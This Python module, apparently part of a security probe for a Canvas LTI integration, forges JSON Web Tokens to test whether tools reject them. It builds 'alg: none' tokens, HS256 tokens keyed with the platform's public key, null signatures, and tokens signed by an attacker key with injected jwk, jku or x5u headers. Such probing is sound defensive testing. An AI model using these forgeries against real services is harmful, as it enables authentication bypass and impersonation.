"""Tokens the platform would never sign: built by the probe itself, by hand where PyJWT refuses.

PyJWT will not HMAC with a PEM public key (the very mistake the "HS256 with the platform's
public key" attacks exploit), nor write ``alg: None``, so those tokens are assembled here from
``hmac`` and base64 directly. A tool that confuses keys may hold the platform's key in any of
its usual encodings, so each is offered (:func:`public_key_encodings`).
"""

from __future__ import annotations

import base64
import datetime
import hashlib
import hmac
import json
from typing import Any

import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _segment(value: dict[str, Any]) -> str:
    return _b64(json.dumps(value, separators=(",", ":")).encode())


def unsigned(header: dict[str, Any], claims: dict[str, Any], alg: str = "none") -> str:
    """``alg: none`` (or a spelling of it), empty signature (RFC 7519 §6.1)."""
    return f"{_segment({**header, 'alg': alg})}.{_segment(claims)}."


def hs256(header: dict[str, Any], claims: dict[str, Any], secret: bytes) -> str:
    signing_input = f"{_segment({**header, 'alg': 'HS256'})}.{_segment(claims)}"
    return f"{signing_input}.{_b64(hmac.new(secret, signing_input.encode(), hashlib.sha256).digest())}"


def bad_signature(header: dict[str, Any], claims: dict[str, Any]) -> str:
    """The header and claims as given, with a signature of the right length that verifies with no key."""
    return f"{_segment(header)}.{_segment(claims)}.{_b64(bytes(256))}"


def public_key_encodings(jwk: dict[str, Any]) -> dict[str, bytes]:
    """The platform's published RSA key as a confused tool may hold it: an HMAC secret candidate each."""
    key = jwt.PyJWK(jwk, algorithm="RS256").key
    spki = key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)
    return {
        "spki_pem": spki,
        "pkcs1_pem": key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1),
        "jwk_json": json.dumps(jwk, separators=(",", ":")).encode(),
        "pem_no_newline": spki.rstrip(b"\n"),
    }


class ForeignKey:
    """An RSA key the platform never published, generated once per probe run: the attacker's."""

    kid = "probe-attacker-key"

    def __init__(self) -> None:
        self._key = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    def sign(self, header: dict[str, Any], claims: dict[str, Any], kid: str, **extra: Any) -> str:
        """RS256 over ``claims``; ``header``'s other fields kept, ``extra`` added (``jwk``, ``jku``…)."""
        kept = {k: v for k, v in header.items() if k not in ("alg", "kid")}
        return jwt.encode(claims, self._key, algorithm="RS256", headers={**kept, "kid": kid, **extra})

    def public_jwk(self) -> dict[str, Any]:
        jwk: dict[str, Any] = json.loads(jwt.algorithms.RSAAlgorithm.to_jwk(self._key.public_key()))
        return {**jwk, "kid": self.kid, "alg": "RS256", "use": "sig"}

    def certificate_pem(self) -> bytes:
        """A self-signed X.509 certificate for the key (what an ``x5u`` URL serves)."""
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "canvas-lti probe attacker (test only)")])
        now = datetime.datetime.now(datetime.UTC)
        cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(self._key.public_key())
                .serial_number(x509.random_serial_number()).not_valid_before(now - datetime.timedelta(days=1))
                .not_valid_after(now + datetime.timedelta(days=1)).sign(self._key, hashes.SHA256()))
        return cert.public_bytes(serialization.Encoding.PEM)
